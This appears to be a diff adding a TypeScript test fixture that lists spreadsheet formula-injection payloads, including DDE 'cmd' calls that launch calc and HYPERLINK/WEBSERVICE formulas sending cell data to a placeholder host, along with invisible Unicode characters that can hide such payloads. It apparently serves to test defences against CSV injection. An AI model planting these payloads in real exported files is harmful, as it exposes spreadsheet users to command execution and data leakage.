@@ -1,0 +1,43 @@
+/** What a spreadsheet would run: formulas, calls of programs (DDE) and letters that look like those that begin one. */
+export const formulaPayloads: readonly string[] = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(A1)',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(A1)',
+  '﹦1+1',
+  '|calc',
+  "=cmd|' /C calc'!A0",
+  "+cmd|' /C calc'!A0",
+  "@SUM(1+9)*cmd|' /C calc'!A0",
+  '=HYPERLINK("http://x.invalid/?d="&A1;"klikk")',
+  '=WEBSERVICE("http://x.invalid")',
+  '=1+1\nmer tekst',
+  '=1+1";"=1+1',
+  '=1+1\r\n=1+1',
+];
+
+/** What may stand before a payload without being seen. */
+export const unseenCovers: readonly string[] = [
+  '',
+  ' ',
+  '\t',
+  '\r',
+  '\n',
+  '\r\n',
+  '\u0000',
+  '\u00A0',
+  '\u00AD',
+  '\u034F',
+  '\u200B',
+  '\u202E',
+  '\u202F',
+  '\u2060',
+  '\u3000',
+  '\u3164',
+  '\uFEFF',
+  ' \u200B\n',
+];
